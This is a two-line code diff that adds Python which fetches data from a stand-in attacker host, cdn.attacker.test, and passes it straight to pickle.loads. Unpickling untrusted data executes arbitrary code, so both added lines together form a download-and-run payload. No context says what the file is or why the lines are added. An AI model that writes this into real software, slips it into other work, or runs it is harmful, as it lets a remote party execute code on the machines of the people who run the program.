@@ -1,0 +1,2 @@
+import pickle, requests
+pickle.loads(requests.get("https://cdn.attacker.test/x").content)
